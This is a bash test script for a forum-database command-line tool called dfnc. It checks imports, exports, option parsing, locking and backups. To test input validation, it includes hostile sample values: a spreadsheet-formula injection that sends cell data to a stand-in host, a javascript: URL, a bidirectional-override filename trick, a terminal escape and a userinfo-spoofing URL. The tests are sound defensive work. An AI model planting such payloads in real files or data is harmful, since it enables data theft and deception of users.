#!/usr/bin/env bash
# Command-line tests: each case runs dfnc and checks its exit code, and what it
# printed (stdout or stderr) and what the database then holds.
# usage: run.sh DFNC_BINARY   (run by meson test)
set -u
DFNC=$(realpath "$1")
HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/tap.sh"

# expect NAME EXPECTED_EXIT GREP_PATTERN_OR_EMPTY -- COMMAND...
expect() {
    local name=$1 want=$2 pattern=$3
    shift 4
    "$@" >out.txt 2>err.txt
    local got=$?
    if [ "$got" != "$want" ]; then
        fail "$name" "exit $got, expected $want"; sed 's/^/#   /' err.txt | head -5
        return
    fi
    if [ -n "$pattern" ] && ! grep -qE -- "$pattern" out.txt err.txt; then
        fail "$name" "output lacks /$pattern/"
        sed 's/^/#   /' out.txt err.txt | head -8
        return
    fi
    pass "$name"
}

org_count() { "$DFNC" --db "$1" stats --json | python3 -c 'import json,sys; print(json.load(sys.stdin)["organisations"])'; }

D=(--db t.db)
expect "version" 0 '^dfnc [0-9]+\.[0-9]+\.[0-9]+$' -- "$DFNC" --version
expect "no command is a usage error" 2 'usage:' -- "$DFNC"
expect "unknown command" 2 'no command "frobnicate"' -- "$DFNC" frobnicate
expect "help explains a command" 0 'organisations' -- "$DFNC" help import
expect "help of an unknown command" 2 'no command' -- "$DFNC" help frobnicate
# every command `dfnc help` lists explains itself
listed=$("$DFNC" help | sed -n 's/^  dfnc \(\[--db PATH\] \)\{0,1\}\([a-z]*\).*/\2/p' | sort -u)
check "dfnc help lists the commands (a dozen or more)" [ "$(echo "$listed" | wc -w)" -ge 12 ]
for c in $listed; do
    expect "help $c" 0 "^usage: dfnc (\[--db PATH\] )?$c" -- "$DFNC" help "$c"
done
expect "import without a file" 2 'usage: dfnc import' -- "$DFNC" "${D[@]}" import organisations
# an empty path would open a temporary database: an import would vanish without a word
expect "an empty --db is a usage error" 2 'dfnc: --db needs a PATH' -- "$DFNC" --db "" stats
expect "... and --db= too" 2 'dfnc: --db needs a PATH' -- "$DFNC" --db= stats
expect "--db without its path names the option" 2 'dfnc: --db needs a PATH' -- "$DFNC" --db
# SQLite reads ":memory:" as a database in memory: an import would vanish too
expect "--db :memory: is a usage error" 2 'dfnc: --db :memory: keeps nothing' -- "$DFNC" --db :memory: stats
expect "... and so is DFNC_DB=:memory:" 2 'dfnc: --db :memory: keeps nothing' -- env DFNC_DB=:memory: "$DFNC" stats
expect "stats with a stray operand" 2 'usage: dfnc stats' -- "$DFNC" "${D[@]}" stats extra
expect "init creates the database, and says so" 0 't.db: created, schema version [0-9]+$' -- "$DFNC" "${D[@]}" init
expect "init again is up to date" 0 'up to date' -- "$DFNC" "${D[@]}" init

# ---- imports that lose nothing ----------------------------------------------------
expect "organisations import" 0 'orgs.csv: 4 rows: 4 added, 0 updated' -- \
    "$DFNC" "${D[@]}" import organisations "$HERE/data/orgs.csv"
expect "Ukrainian names come through intact" 0 'Укроборонпром Тест' -- \
    "$DFNC" "${D[@]}" export organisations - --format json
expect "re-import updates by id" 0 'orgs_changed.csv: 2 rows: 1 added, 1 updated' -- \
    "$DFNC" "${D[@]}" import organisations "$HERE/data/orgs_changed.csv"
check "an update changed the row" grep -q 'Renamed GmbH' <("$DFNC" "${D[@]}" export organisations -)
# export then import into a fresh database gives the same rows: Cyrillic, quotes,
# commas and a newline inside fields, an empty optional one
"$DFNC" --db rt_src.db import organisations "$HERE/data/orgs.csv" >/dev/null
"$DFNC" --db rt_src.db import people "$HERE/data/people.csv" >/dev/null
# a name a spreadsheet would run as a formula (CSV injection) and a description
# that begins with a minus
printf '%s\n' 'id,name,country,kind,sme,city,website,description' \
    'org-f,"=HYPERLINK(""http://x.test/?""&A2,""CV"")",DE,company,1,,,-40 % weight' > formula.csv
"$DFNC" --db rt_src.db import organisations formula.csv >/dev/null
for kind in organisations people; do
    "$DFNC" --db rt_src.db export $kind rt_$kind.csv 2>/dev/null
    expect "$kind exported import into a fresh database" 0 'rows: [0-9]+ added, 0 updated' -- \
        "$DFNC" --db rt.db import $kind rt_$kind.csv
    check "... and export again byte for byte" cmp -s rt_$kind.csv <("$DFNC" --db rt.db export $kind -)
done
check "... the quoted comma and the newline among them" grep -q '"Опис українською,$' rt_organisations.csv
check "... a formula exported as text, behind an apostrophe" grep -q "^org-f,\"'=HYPERLINK(\"\"http://x.test/?\"\"&A2,.*,'-40 % weight" rt_organisations.csv
check "... and imported back without it" grep -q '"name": "=HYPERLINK(\\"http://x.test/?\\"&A2' \
    <("$DFNC" --db rt.db export organisations - --format json)
before=$(org_count t.db)

bad() { # bad NAME KIND FILE PATTERN: refused with exit 3 and FILE:LINE, nothing written
    expect "$1" 3 "$4" -- "$DFNC" "${D[@]}" import "$2" "$HERE/data/$3"
    check "$1 leaves the database unchanged" [ "$(org_count t.db)" = "$before" ]
}
bad "every bad line is named: country XX on line 3" organisations bad.csv '^.*bad\.csv:3: country "XX"'
check "... and the unterminated quote on line 4 after it" grep -q 'bad\.csv:4: unterminated quoted field' err.txt
printf 'id,name,country,kind\nx-1,A,DE,company\nx-2,B,XX,company\nx-2,C,DE,company\nx-4,D,FR,startup\nx-5,E,PL,company\n' > multi.csv
bad_here() { expect "$1" 3 "$3" -- "$DFNC" "${D[@]}" import organisations "$2"; }
bad_here "three bad rows of five, each named in one pass" multi.csv 'multi\.csv:3: country "XX"'
check "... the duplicate on line 4 and the kind on line 5 too" sh -c "grep -q 'multi\.csv:4: duplicate id \"x-2\"' err.txt && grep -q 'multi\.csv:5: kind \"startup\"' err.txt && [ \$(wc -l < err.txt) -eq 3 ]"
check "three bad rows leave the database unchanged" [ "$(org_count t.db)" = "$before" ]
bad "unknown country" organisations bad_country.csv 'bad_country\.csv:2: country "ZZ" is not an ISO 3166'
bad "unknown kind" organisations bad_kind.csv 'bad_kind\.csv:3: kind "startup" is not one of company'
bad "duplicate id in the file" organisations bad_duplicate.csv 'bad_duplicate\.csv:4: duplicate id "dup-1"'
bad "missing required column" organisations bad_missing_column.csv 'bad_missing_column\.csv:1: missing required column "kind"'
bad "unterminated quote" organisations bad_unterminated.csv 'bad_unterminated\.csv:3: unterminated quoted field'
# Windows-1252 (Soci\xE9t\xE9) is read as such unless UTF-8 is asked for (tests/cli/spreadsheet_test.py)
expect "a file that is not UTF-8, read as UTF-8" 3 'bad_latin1\.csv:2: column "name" is not UTF-8 \(byte 0xE9 at offset 4\): the file looks like 8-bit Western European \(Windows-1252' -- \
    "$DFNC" "${D[@]}" import organisations "$HERE/data/bad_latin1.csv" --encoding utf-8
check "a file that is not UTF-8 leaves the database unchanged" [ "$(org_count t.db)" = "$before" ]
python3 -c "print('id,name,country,kind,description'); print('ok-1,A,DE,company,x'); print('big-1,B,FR,company,' + 'a' * 70000)" > big.csv
expect "a field over 64 KiB" 3 'big\.csv:3: field 5 is 70000 bytes long' -- "$DFNC" "${D[@]}" import organisations big.csv
check "a field over 64 KiB leaves the database unchanged" [ "$(org_count t.db)" = "$before" ]
# a row of another width than the header: an unquoted comma would shift or cut a field
printf 'id,name,country,kind,description\nc-1,A,DE,company,Drones, radars and sensors\nc-2,B,FR\n' > width.csv
bad_here "a row wider than the header names its line" width.csv 'width\.csv:2: 6 fields where the header has 5 \(a comma in a field without quotes\?\)'
check "... and a narrower one, on its own line" grep -q 'width\.csv:3: 3 fields where the header has 5' err.txt
check "rows of another width leave the database unchanged" [ "$(org_count t.db)" = "$before" ]
bad "people naming an unknown organisation" people bad_people.csv 'bad_people\.csv:3: organisation "org-nope" is unknown'
# a website the web UI would link, and languages, refused as the API refuses them (app/fields.c)
printf 'id,name,country,kind,sme,city,website\nw-1,A,DE,company,0,,https://a.example\nw-2,B,FR,company,0,,javascript:alert(1)\n' > web_bad.csv
bad_here "a website that is no web address names its line" web_bad.csv 'web_bad\.csv:3: website "javascript:alert\(1\)" is not an http:// or https:// address'
check "a bad website leaves the database unchanged" [ "$(org_count t.db)" = "$before" ]
printf 'id,organisation,name,languages\nl-1,org-de,A,en;uk\nl-2,org-de,B,en;\nl-3,org-de,C,klingon\n' > lang_bad.csv
expect "languages that are not ISO 639-1 codes name their lines" 3 'lang_bad\.csv:3: languages "en;" must be ISO 639-1 codes' -- \
    "$DFNC" "${D[@]}" import people lang_bad.csv
check "... line 4 too" grep -q 'lang_bad\.csv:4: languages "klingon"' err.txt
# ---- ids the API could never address, and NUL bytes, are refused by their line ----------
printf 'id,name,country,kind\nok-9,A,DE,company\norg/zz,Z,DE,company\n..,Y,DE,company\n' > id_bad.csv
bad_here "an organisation id that is no API path segment names its line" id_bad.csv 'id_bad\.csv:3: id "org/zz" must be letters A-Z a-z, digits'
check "... and the one that is \"..\" too" grep -q 'id_bad\.csv:4: id "\.\." must be letters' err.txt
check "ids refused leave the database unchanged" [ "$(org_count t.db)" = "$before" ]
printf 'id,organisation,name\np-ok,org-de,A\np-zz\0junk,org-de,B\n' > nul.csv
expect "a NUL byte in a field names its line and field" 3 'nul\.csv:3: field 1 holds a NUL byte' -- \
    "$DFNC" "${D[@]}" import people nul.csv
check "... and nothing of the file is kept" sh -c "! \"$DFNC\" ${D[*]} export people - | grep -q p-ok"
printf 'id,organisation,name\np-x,org/zz,A\n' > person_org_bad.csv
expect "a person's organisation that is no API path segment" 3 'person_org_bad\.csv:2: organisation "org/zz" must be letters' -- \
    "$DFNC" "${D[@]}" import people person_org_bad.csv
printf 'organisation,direction,cpv,title\norg/zz,offer,35613000-4,Drones\n' > cap_org_bad.csv
expect "a capability's organisation that is no API path segment" 3 'cap_org_bad\.csv:2: organisation "org/zz" must be letters' -- \
    "$DFNC" "${D[@]}" import capabilities cap_org_bad.csv
printf 'id,event,from,to\nx/y,ev-1,ppl-1,ppl-2\nr-2,ev-1,ppl-1,p/2\n' > req_id_bad.csv
expect "a request id that is no API path segment" 3 'req_id_bad\.csv:2: id "x/y" must be letters' -- \
    "$DFNC" "${D[@]}" import requests req_id_bad.csv
check "... and a person it names, on its own line" grep -q 'req_id_bad\.csv:3: to "p/2" must be letters' err.txt
# ---- text that shows otherwise than it is written, and codes that are not ISO 639-1 ----------
printf 'id,name,country,kind,city\nb-1,Acme \342\200\256gnp.exe,DE,company,\nb-2,B,FR,company,\342\201\246Paris\nb-3,C,FR,company,Lyon\n' > bidi.csv
bad_here "a right-to-left override in a name names its line" bidi.csv 'bidi\.csv:2: name holds a Unicode bidirectional control \(U\+202E at byte 5\)'
check "... an isolate in a city, on its own line" grep -q 'bidi\.csv:3: city holds a Unicode bidirectional control (U+2066 at byte 0)' err.txt
check "bidi controls leave the database unchanged" [ "$(org_count t.db)" = "$before" ]
# a terminal escape would reach the organiser's terminal (dfnc agenda) and calendar feeds raw
printf 'id,name,country,kind,description\ne-1,Evil\033]0;x\007,DE,company,\ne-2,B,FR,company,"two\nlines\tand a tab"\n' > ctl.csv
bad_here "an escape in a name names its line" ctl.csv 'ctl\.csv:2: name holds a control character \(U\+001B at byte 4\)'
check "... and only that line: a description may hold lines and tabs" sh -c "[ \$(wc -l < err.txt) -eq 1 ]"
check "control characters leave the database unchanged" [ "$(org_count t.db)" = "$before" ]
printf 'id,name,country,kind,website\nu-1,A,DE,company,https://evil.eu@x.eu\n' > userinfo.csv
bad_here "a website with a user name before '@' names its line" userinfo.csv "userinfo\.csv:2: website \"https://evil\.eu@x\.eu\" holds a user name before '@'"
printf 'id,organisation,name,languages\nq-1,org-de,A,en;zz\nq-2,org-de,B,en;uk;en\n' > lang_iso.csv
expect "a language ISO 639-1 does not have names its line" 3 'lang_iso\.csv:2: languages "en;zz": "zz" is not an ISO 639-1 language code' -- \
    "$DFNC" "${D[@]}" import people lang_iso.csv
check "... and one named twice" grep -q 'lang_iso\.csv:3: languages "en;uk;en" names "en" twice' err.txt
bad "a malformed CPV code" capabilities bad_cpv.csv 'bad_cpv\.csv:2: cpv "3561300-4" is not a CPV code'
expect "people import" 0 'people.csv: 3 rows: 3 added' -- "$DFNC" "${D[@]}" import people "$HERE/data/people.csv"
expect "capabilities import" 0 'capabilities.csv: 2 rows: 2 added' -- "$DFNC" "${D[@]}" import capabilities "$HERE/data/capabilities.csv"
# two products under one code in one file: the second would replace the
# first (one offer per organisation, direction and code), so it is refused
printf 'organisation,direction,cpv,title\norg-ua,offer,35720000-1,FPV drones\norg-ua,offer,35720000-1,Reconnaissance UAV\norg-ua,need,35720000-1,Jammers\n' > cap_twice.csv
expect "an offer named twice in one file names its second line" 3 \
    'cap_twice\.csv:3: duplicate organisation, direction and cpv "org-ua offer 35720000-1" in this file: one row each \(an organisation states one offer and one need per CPV code' -- \
    "$DFNC" "${D[@]}" import capabilities cap_twice.csv
check "... and only that line: a need under the same code is another row" sh -c "[ \$(wc -l < err.txt) -eq 1 ]"
check "... and nothing of the file is kept" [ "$(python3 -c 'import sqlite3; print(sqlite3.connect("t.db").execute("select count(*) from capabilities where cpv = ?", ("35720000-1",)).fetchone()[0])')" = 0 ]
# a spreadsheet's capitals in a word of a closed list (kind, direction,
# status) are read as the word, stored as dfnc writes it
printf 'id,name,country,kind\nc-1,Caps,de,Company\nc-2,Gov,PL,GOVERNMENT\n' > caps_org.csv
printf 'id,organisation,name\nc-p1,c-1,A\nc-p2,c-2,B\n' > caps_people.csv
printf 'organisation,direction,cpv,title\nc-1,Offer,35613000-4,Drones\nc-2,NEED,35613000-4,Drones\n' > caps_cap.csv
printf 'id,event,from,to,status\nc-r1,ev-caps,c-p1,c-p2,Accepted\n' > caps_req.csv
expect "a kind in capitals is the kind" 0 'caps_org\.csv: 2 rows: 2 added' -- "$DFNC" --db caps.db import organisations caps_org.csv
"$DFNC" --db caps.db import people caps_people.csv >/dev/null 2>&1
expect "a direction in capitals is the direction" 0 'caps_cap\.csv: 2 rows: 2 added' -- "$DFNC" --db caps.db import capabilities caps_cap.csv
python3 -c 'import sqlite3; c = sqlite3.connect("caps.db"); c.execute("INSERT INTO events(id, name, timezone, starts_on, ends_on) VALUES (?, ?, ?, ?, ?)", ("ev-caps", "E", "Europe/Brussels", "2031-01-01", "2031-01-02")); c.commit()'
expect "a status in capitals is the status" 0 'caps_req\.csv: 1 row: 1 added' -- "$DFNC" --db caps.db import requests caps_req.csv
check "... each stored in lower case, as the API and the engines read them" [ "$(python3 -c 'import sqlite3; c = sqlite3.connect("caps.db"); print(sorted(r[0] for r in c.execute("SELECT kind FROM organisations UNION ALL SELECT direction FROM capabilities UNION ALL SELECT status FROM requests")))')" = "['accepted', 'company', 'government', 'need', 'offer']" ]
printf 'organisation,direction,cpv,title\nc-1,offer,35613000-4,FPV\nc-1,OFFER,35613000-4,UAV\n' > caps_twice.csv
expect "an offer twice in one file in two letter cases is one offer twice" 3 'caps_twice\.csv:3: duplicate organisation, direction and cpv "c-1 offer 35613000-4"' -- \
    "$DFNC" --db caps.db import capabilities caps_twice.csv
expect "requests naming an unknown event" 3 'requests.csv:2: event "forum-x" does not exist' -- \
    "$DFNC" "${D[@]}" import requests "$HERE/data/requests.csv"
expect "an unknown import kind is a usage error" 2 'usage: dfnc import' -- "$DFNC" "${D[@]}" import widgets x.csv

# ---- CPV classifier (read from ../shared/data when present) ---------------------------
if [ -n "${DFNC_SHARED_DATA:-}" ] && [ -f "$DFNC_SHARED_DATA/cpv/cpv_en.json" ]; then
    expect "CPV classifier in English" 0 'cpv_en.json: 9454 rows: 9454 added' -- "$DFNC" --db cpv.db import cpv "$DFNC_SHARED_DATA/cpv/cpv_en.json"
    expect "CPV classifier in Ukrainian" 0 'cpv_uk.json: [0-9]+ rows' -- "$DFNC" --db cpv.db import cpv "$DFNC_SHARED_DATA/cpv/cpv_uk.json"
    "$DFNC" --db cpv.db import organisations "$HERE/data/orgs.csv" >/dev/null
    expect "with a classifier, a wrong check digit is refused" 3 'bad_check_digit\.csv:2: cpv "35613000-9" is not in the CPV classifier' -- \
        "$DFNC" --db cpv.db import capabilities "$HERE/data/bad_check_digit.csv"
    printf '{"35613000-4": "Unmanned aerial vehicles",\n "35000000-4": }\n' > bad_cpv.json
    expect "a malformed CPV classifier names its line" 3 'bad_cpv\.json:2: ' -- "$DFNC" --db cpv.db import cpv bad_cpv.json
    python3 -c 'import json; print(json.dumps({"35613000-4": "Drones", "35000000-4": "x" * 1001}))' > long_cpv.json
    expect "a CPV label over 1000 bytes is refused, naming its code" 3 'long_cpv\.json: the label of 35000000-4 is longer than 1000 bytes' -- \
        "$DFNC" --db cpv.db import cpv long_cpv.json --lang en
    expect "and nothing of that file was kept" 0 '^Unmanned aerial vehicles$' -- python3 -c \
        'import sqlite3; print(sqlite3.connect("cpv.db").execute("select label_en from cpv where code = ?", ("35613000-4",)).fetchone()[0])'
    expect "with a classifier, real codes pass" 0 '2 added' -- "$DFNC" --db cpv.db import capabilities "$HERE/data/capabilities.csv"
else
    fail "DFNC_SHARED_DATA/cpv is missing"
fi

expect "an unknown export format says which" 2 'dfnc: --format is csv, json or xlsx, not "xml"' -- \
    "$DFNC" "${D[@]}" export organisations - --format xml
expect "... before the operands too" 2 'dfnc: --format is csv, json or xlsx, not "pdf"' -- \
    "$DFNC" "${D[@]}" export --format pdf organisations -

# numbers past an int were cut to one in range (--fairness 4294967301 ran as 5), an
# empty one read as 0: each is refused, naming the option and its range
printf 'num_slots = 2;\n' > tiny.dzn
expect "--fairness past an int" 2 'dfnc: --fairness takes a whole number from 0 to 1000, not "4294967301"' -- \
    "$DFNC" schedule --dzn tiny.dzn --fairness 4294967301
expect "--fairness empty" 2 'dfnc: --fairness takes a whole number from 0 to 1000, not ""' -- \
    "$DFNC" schedule --dzn tiny.dzn --fairness ""
expect "--threads past an int" 2 'dfnc: --threads takes a whole number from 1 to 2, not "4294967297"' -- \
    "$DFNC" schedule --dzn tiny.dzn --threads 4294967297
expect "--seed negative" 2 'dfnc: --seed takes a whole number from 0 to 4294967295, not "-1"' -- \
    "$DFNC" "${D[@]}" schedule --seed -1
expect "recommend --top out of range names it" 2 'dfnc: --top takes a whole number from 1 to 1000, not "-1"' -- \
    "$DFNC" "${D[@]}" recommend ppl-1 --top -1
expect "demo --port out of range names it" 2 'dfnc: --port takes a whole number from 1 to 65535, not "0"' -- \
    "$DFNC" --db demo-port.db demo --port 0
expect "serve --port out of range names it" 2 'dfnc: --port takes a whole number from 0 to 65535, not "70000"' -- \
    "$DFNC" "${D[@]}" serve --port 70000
# a negative seed wrapped round to 18446744073709551615, and --login-failures took
# "5:5junk" (and numbers past an int); the server is given 10 s in case it starts
expect "demo --seed negative" 2 'dfnc: --seed takes a whole number from 0 to 18446744073709551615, not "-1"' -- \
    "$DFNC" --db demo-seed.db demo --seed -1 --no-serve
expect "serve --login-failures with text after it" 2 'dfnc: --login-failures takes A:I, two whole numbers from 1 to 2147483647, not "5:5junk"' -- \
    timeout 10 "$DFNC" "${D[@]}" serve --port 0 --login-failures 5:5junk
expect "serve --login-failures past an int" 2 'dfnc: --login-failures takes A:I' -- \
    timeout 10 "$DFNC" "${D[@]}" serve --port 0 --login-failures 4294967301:5
# --behind-proxy believed X-Forwarded-For from any peer; it takes the proxies'
# addresses now, and a bare one (which would take the next option as its value)
# says the address is required
expect "serve --behind-proxy without an address" 2 'dfnc: --behind-proxy: "--port" is not an IPv4 or IPv6 address or a range such as 10.0.0.0/8 \(the proxies. addresses are required' -- \
    timeout 10 "$DFNC" "${D[@]}" serve --behind-proxy --port 0
expect "serve --behind-proxy with a name" 2 'dfnc: --behind-proxy: "proxy.lan" is not an IPv4 or IPv6 address' -- \
    timeout 10 "$DFNC" "${D[@]}" serve --port 0 --behind-proxy 10.0.0.1,proxy.lan
# one thread is the daemon's own, no pool: libmicrohttpd is not asked for a pool of 1
expect "serve --threads 1 serves" 124 'dfnc serving http://127\.0\.0\.1:[0-9]+' -- timeout 2 "$DFNC" "${D[@]}" serve --port 0 --threads 1
check "... with no warning from libmicrohttpd" sh -c '! grep -q Warning err.txt'

# ---- --db where it cannot be: the message says what to do, not SQLite's words -------------
expect "--db in a directory that does not exist" 1 'dfnc: cannot open database nodir/x\.db: there is no directory nodir' -- \
    "$DFNC" --db nodir/x.db init
mkdir -p rodir && cp t.db rodir/ && chmod 555 rodir && chmod 444 rodir/t.db
# root writes anyway: read it as nobody (the work folder must let nobody in)
if [ "$(id -u)" = 0 ] && command -v setpriv >/dev/null; then
    chmod 755 "$WORK"; AS_OTHER=(setpriv --reuid=65534 --regid=65534 --clear-groups)
else AS_OTHER=(); fi
expect "--db on a read-only database says so" 1 'dfnc: rodir/t\.db: read-only here: dfnc writes to the database and beside it \(rodir/t\.db-wal, rodir/t\.db-shm\); copy it where you may write' -- \
    "${AS_OTHER[@]}" "$DFNC" --db rodir/t.db stats
chmod 755 rodir

# another process holding the write lock past the 5 s wait: a clear error, nothing written
python3 -c 'import sqlite3, time; c = sqlite3.connect("t.db", isolation_level=None); c.execute("BEGIN EXCLUSIVE"); open("locked", "w").close(); time.sleep(8)' &
holder=$!
for _ in $(seq 50); do [ -e locked ] && break; sleep 0.1; done
printf 'id,name,country,kind\nlock-1,L,DE,company\n' > lock.csv
expect "a database another process is writing" 1 'dfnc: the database is busy: another dfnc \(a command or the server\) kept it locked for 5 s; try again when it is done' -- \
    "$DFNC" "${D[@]}" import organisations lock.csv
wait "$holder"
check "... and nothing was written" [ "$(org_count t.db)" = "$before" ]

# ---- every CSV kind: a row one field too wide is named, and the database is exactly as before --
dump() { python3 -c 'import sqlite3, sys; print("\n".join(sqlite3.connect(sys.argv[1]).iterdump()))' t.db; }
wide() { # wide KIND HEADER GOOD_ROW
    printf '%s\n%s\n%s,extra\n' "$2" "$3" "${3/w-/x-}" > "wide_$1.csv"   # another id
    local pre; pre=$(dump)
    expect "$1: a row one field too wide" 3 "wide_$1\\.csv:3: [0-9]+ fields where the header has [0-9]+" -- \
        "$DFNC" "${D[@]}" import "$1" "wide_$1.csv"
    check "... leaves the database exactly as it was" [ "$(dump)" = "$pre" ]
}
wide people 'id,organisation,name,email,title,languages' 'w-p,org-de,W,,,en'
wide capabilities 'organisation,direction,cpv,title,description' 'org-de,offer,35613000-4,T,D'
wide demands 'id,buyer,country,cpv,description,quantity,unit,deliver_by,max_unit_price_eur,funder_countries' \
    'w-d,org-de,DE,35613000-4,x,5,pcs,2027-06-30,100,'
wide supplies 'id,organisation,cpv,description,capacity_per_month,unit_price_eur,lead_time_days,production_country,eu_content_pct' \
    'w-s,org-de,35613000-4,x,5,100,10,DE,80'

# ---- a directory given for a file is named as such, like a missing file (exit 3) -------------
mkdir -p adir
for args in "import organisations adir" "import cpv adir" "import glossary adir" \
            "import cordis --projects adir --participations adir" "schedule --dzn adir" \
            "partners --lead org-de --text-file adir" "partners --queries adir"; do
    # shellcheck disable=SC2086
    expect "$args: a directory" 3 '^adir: cannot open: Is a directory$' -- "$DFNC" "${D[@]}" $args
done

# ---- the demo forum, as the acceptance checks it -------------------------------------------
expect "demo seed 7" 0 'participants from' -- "$DFNC" --db demo.db demo --seed 7 --no-serve
"$DFNC" --db demo.db stats --json > stats.json
check "demo figures are shaped like DFNC2" python3 - stats.json <<'PY'
import json, sys
s = json.load(open(sys.argv[1]))
ok = s["participants"] >= 500 and s["eu_organisations"] >= 100 and s["ua_organisations"] >= 30 \
     and s["countries"] >= 20 and s["accepted"] > 0 and s["accepted"] > s["requests"] / 2
sys.exit(0 if ok else 1)
PY
rows=$("$DFNC" --db demo.db export people - --format csv | python3 -c 'import csv,sys; print(sum(1 for _ in csv.DictReader(sys.stdin)))')
participants=$(python3 -c 'import json; print(json.load(open("stats.json"))["participants"])')
check "export people has a row per participant ($rows = $participants)" [ "$rows" = "$participants" ]
unique_names() { python3 -c 'import csv,sys; n=[r["name"] for r in csv.DictReader(sys.stdin)]; sys.exit(0 if len(n) == len(set(n)) > 0 else 1)'; }
for seed in 7 8; do
    [ "$seed" = 7 ] || "$DFNC" --db names$seed.db demo --seed $seed --no-serve >/dev/null
    db=demo.db; [ "$seed" = 7 ] || db=names$seed.db
    check "demo seed $seed: no two organisations share a name" unique_names < <("$DFNC" --db $db export organisations - --format csv)
    check "demo seed $seed: no two people share a name" unique_names < <("$DFNC" --db $db export people - --format csv)
done
# one seed, one forum: every table compared in demo_digest_test.py (cli_demo)
"$DFNC" --db demo.db export meetings meetings.json --format json 2>/dev/null
check "the demo is scheduled: nobody and no table double-booked, times with offsets" python3 - meetings.json stats.json <<'PY'
import json, re, sys
meetings = json.load(open(sys.argv[1])); stats = json.load(open(sys.argv[2]))
assert len(meetings) == stats["scheduled"] > 0.9 * stats["accepted"], (len(meetings), stats)
seen_people, seen_tables = set(), set()
for m in meetings:
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d", m["start"]), m
    if m["location"] is not None:   # one held online (a hybrid forum) takes no table
        assert (m["start"], m["location"]) not in seen_tables, m
        seen_tables.add((m["start"], m["location"]))
    assert len(m["people"]) >= 2, m
    for p in m["people"]:
        assert (m["start"], p) not in seen_people, (m, p)
        seen_people.add((m["start"], p))
PY
# The demo is scheduled, not published: its meetings are shown, as provisional.
expect "an unpublished agenda says its meetings are provisional" 0 \
    '^2027-02-1[67] [0-9:]{5}-[0-9:]{5}  .*with .*\(provisional\)$' -- "$DFNC" --db demo.db agenda p-0437
expect "an unpublished agenda's calendar is tentative" 0 '^STATUS:TENTATIVE' -- \
    "$DFNC" --db demo.db agenda p-0437 --format ics
expect "an unpublished agenda in JSON is marked so" 0 '"published":false' -- \
    "$DFNC" --db demo.db agenda p-0437 --format json
expect "demo refuses a database that has a forum" 3 'already holds a forum' -- "$DFNC" --db demo.db demo --no-serve

# ---- backup: a consistent copy while another connection writes ---------------------------
expect "backup without a file" 2 'usage: dfnc backup' -- "$DFNC" --db demo.db backup
expect "backup of the demo" 0 'copy.bak: a copy of demo.db \(schema version [0-9]+, [0-9.]+ MiB\), integrity checked' -- \
    "$DFNC" --db demo.db backup copy.bak
check "the copy has the forum's figures" cmp -s <("$DFNC" --db demo.db stats --json) <("$DFNC" --db copy.bak stats --json)
check "... and its people, byte for byte" cmp -s <("$DFNC" --db demo.db export people -) <("$DFNC" --db copy.bak export people -)
cp copy.bak copy.before
expect "a backup never overwrites a file" 3 'copy.bak exists: a backup never overwrites a file' -- \
    "$DFNC" --db demo.db backup copy.bak
check "... which stays as it was" cmp -s copy.bak copy.before
expect "a backup into a missing directory" 1 'cannot write the backup no/such/dir.bak' -- \
    "$DFNC" --db demo.db backup no/such/dir.bak
check "... leaves no partial copy behind" sh -c '! ls -a | grep -q "partial"'
# a writer holds its transaction open: the backup neither waits for it nor holds its rows
python3 - demo.db <<'PY' &
import sqlite3, sys, time
c = sqlite3.connect(sys.argv[1], isolation_level=None)
c.execute("BEGIN IMMEDIATE")
c.execute("UPDATE organisations SET name = 'Uncommitted Name' WHERE id = (SELECT min(id) FROM organisations)")
open("writer.ready", "w").close()
time.sleep(4)
c.execute("ROLLBACK")
PY
writer=$!
for _ in $(seq 50); do [ -e writer.ready ] && break; sleep 0.1; done
expect "a backup while another connection writes" 0 'integrity checked' -- timeout 3 "$DFNC" --db demo.db backup during.bak
check "... holds only what was committed" sh -c '! "$0" --db during.bak export organisations - | grep -q "Uncommitted Name"' "$DFNC"
wait $writer
expect "demo refuses fewer than 50 people" 2 '--people takes 50 to 10000 participants, not "49"' -- \
    "$DFNC" --db size.db demo --people 49 --no-serve
expect "demo refuses more than 10000 people" 2 'usage: dfnc demo .*--people N' -- \
    "$DFNC" --db size.db demo --people 10001 --no-serve
expect "demo refuses a size that is no number" 2 'not "many"' -- "$DFNC" --db size.db demo --people many --no-serve
check "a refused size writes no forum" test ! -s size.db
expect "demo --people 50 has the five demo logins" 0 'participant5@demo\.dfnc .*an EU prime contractor' -- \
    "$DFNC" --db size50.db demo --people 50 --no-serve
expect "demo --people 50 is a forum of 50" 0 '"participants": 5[0-9],' -- "$DFNC" --db size50.db stats --json
expect "events export in JSON has the slots" 0 '"seq": 31' -- "$DFNC" --db demo.db export events - --format json
expect "events export in JSON names the demo's sessions in Ukrainian too" 0 \
    '"name": "B2B meetings I",.*"name_uk": "Зустрічі B2B I"' -- \
    sh -c '"$0" --db demo.db export events - --format json | tr -d "\n"' "$DFNC"
expect "events export in CSV ends with the Ukrainian name and venue, the video service, when requests close, when each day's mail goes" 0 \
    '^dfnc2-eu-2027,.*,DFNC2: EU Edition \(демо\),Брюссель,(https://[^,]*)?,,,$' -- \
    "$DFNC" --db demo.db export events -
"$DFNC" --db demo.db export organisations orgs_out.csv 2>/dev/null
expect "an export imports back unchanged" 0 'rows: 0 added, [0-9]+ updated' -- "$DFNC" --db demo.db import organisations orgs_out.csv

# ---- interpreters, booked by CSV for the whole event or one session ----------------------
interpreters() { python3 -c 'import sqlite3,sys; print(sqlite3.connect(sys.argv[1]).execute("select count(*) from interpreters").fetchone()[0])' demo.db; }
printf 'id,event,name,pair,session\nint-a,dfnc2-eu-2027,Olha Kravets,uk-en,\nint-b,dfnc2-eu-2027,Jan Novak,uk-cs,dfnc2-eu-2027-s2\n' > interp.csv
expect "interpreters import" 0 'interp.csv: 2 rows: 2 added' -- "$DFNC" --db demo.db import interpreters interp.csv
expect "interpreters import again updates" 0 'interp.csv: 2 rows: 0 added, 2 updated' -- "$DFNC" --db demo.db import interpreters interp.csv
before=$(interpreters)
printf 'id,event,name,pair,session\nint-c,dfnc2-eu-2027,A,uk-de,\nint-d,dfnc2-eu-2027,B,ukr-en,\n' > interp_bad.csv
expect "an interpreter pair that is not two codes names its line" 3 'interp_bad\.csv:3: pair "ukr-en" must be two different language codes' -- \
    "$DFNC" --db demo.db import interpreters interp_bad.csv
printf 'id,event,name,pair,session\nint-e,dfnc2-eu-2027,C,uk-en,no-such-session\n' > interp_bad2.csv
